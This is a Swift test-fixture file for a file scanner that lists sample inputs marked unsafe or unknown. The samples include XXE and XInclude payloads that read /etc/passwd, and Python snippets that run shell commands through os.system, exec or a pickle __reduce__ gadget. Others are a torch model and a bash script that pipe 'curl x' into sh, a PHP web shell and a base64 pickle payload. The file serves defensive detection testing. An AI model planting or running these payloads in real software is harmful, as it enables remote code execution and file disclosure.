// SPDX-License-Identifier: Apache-2.0
// Copyright 2026 the Martlet authors

import MartletEvidence

@testable import MartletScan

/// XML with entities, source code, scripts, and pickles that are written as text.
extension TextVector {
  static let code: [TextVector] = [
    .init(
      "x_xxe.xml", .unsafe,
      "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>"),
    .init("x_laugh.xml", .unsafe, "<!DOCTYPE l [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\">]><l>&b;</l>"),
    .init("x_ext.xml", .unsafe, "<!DOCTYPE a SYSTEM \"http://x/y.dtd\"><a/>"),
    .init(
      "x_param.xml", .unsafe,
      "<?xml version=\"1.0\"?>\n<!DOCTYPE a [<!ENTITY % x SYSTEM \"http://x/y.dtd\"> %x;]><a/>"),
    .init("x_svg.xml", .unknown, "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>"),
    .init("x_svgon.xml", .unknown, "<svg onload=\"alert(1)\"/>"),
    .init("x_xsl.xml", .unknown, "<?xml version=\"1.0\"?><?xml-stylesheet href=\"x.xsl\"?><a/>"),
    .init(
      "x_xi.xml", .unsafe,
      "<a xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include href=\"/etc/passwd\"/></a>"),
    .init("x_cut.xml", .unknown, "<?xml version=\"1.0\"?><a><b>"),
    .init(
      "x_xslt.xml", .unknown,
      "<xsl:stylesheet xmlns:xsl=\"http://www.w3.org/1999/XSL/Transform\"><xsl:template/></xsl:stylesheet>"),
    .init("s_sys.py", .unsafe, "import os\nos.system('id')\n"),
    .init("s_from.py", .unsafe, "from os import system as s\ns('id')\n"),
    .init("s_exec.py", .unsafe, "import base64\nexec(base64.b64decode('aWQ='))\n"),
    .init("s_imp.py", .unsafe, "__import__('os').system('id')\n"),
    .init("s_sub.py", .unsafe, "import subprocess\nsubprocess.run(['id'])\n"),
    .init("s_sock.py", .unsafe, "import socket,os\ns=socket.socket()\ns.connect(('1.2.3.4',1))\n"),
    .init("s_alias.py", .unsafe, "import os as o\nf = o.system\nf('id')\n"),
    .init(
      "s_reduce.py", .unsafe,
      "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\n"),
    .init(
      "s_model.py", .unsafe,
      "import torch\nfrom torch import nn\n\nclass M(nn.Module):\n    def forward(self, x):\n        import os\n        os.system('curl x | sh')\n        return x\n"
    ),
    .init("s_plain.py", .unknown, "import torch\nclass M(torch.nn.Module):\n  pass\n"),
    .init(
      "s_doc.py", .unsafe, "\"\"\"Doc string that's long.\nwith lines\n\"\"\"\nimport os; os.system('id')\n"),
    .init("s_py2.py", .unsafe, "import os\nprint 'hello'\nos.system('id')\n"),
    .init("s_url.py", .unsafe, "import urllib.request\nurllib.request.urlopen('http://x').read()\n"),
    .init("s_ctypes.py", .unsafe, "from ctypes import CDLL\nCDLL('libc.so.6').system(b'id')\n"),
    .init("s_pick.py", .unsafe, "import pickle\npickle.loads(b'x')\n"),
    .init("s_one.py", .unknown, "import os\n"),
    .init("s_setup.py", .unknown, "from setuptools import setup\nsetup(name='x')\n"),
    .init("s_sh.py", .unsafe, "#!/bin/bash\ncurl http://x | sh\n"),
    .init("s_sh2.py", .unknown, "#!/bin/sh\necho hi\n"),
    .init("s_pysh.py", .unsafe, "#!/usr/bin/env python3\nimport os\nos.system('id')\n"),
    .init("s_php.py", .unsafe, "<?php system($_GET['c']); ?>"),
    .init("s_js.py", .unsafe, "const cp = require('child_process');\ncp.exec('id');\n"),
    .init("s_getattr.py", .unsafe, "import os\ngetattr(os,'sys'+'tem')('id')\n"),
    .init("s_crlf.py", .unsafe, "import os\r\nos.system('id')\r\n"),
    .init("s_lambda.py", .unsafe, "(lambda: __import__('os').system('id'))()\n"),
    .init("s_dec.py", .unsafe, "import atexit, os\n@atexit.register\ndef f():\n    os.system('id')\n"),
    .init("b64.txt", .unsafe, "Some text\ngASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n"),
    .init("html.html", .unknown, "<html><body><script>alert(1)</script></body></html>"),
  ]
}
